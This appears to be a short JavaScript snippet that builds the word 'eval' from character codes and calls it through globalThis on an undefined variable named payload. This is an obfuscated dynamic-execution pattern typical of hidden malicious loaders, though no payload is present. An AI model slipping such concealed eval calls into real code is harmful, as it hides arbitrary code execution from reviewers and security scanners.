const n = [101, 118, 97, 108].map((c) => String.fromCharCode(c)).join('');
globalThis[n](payload);
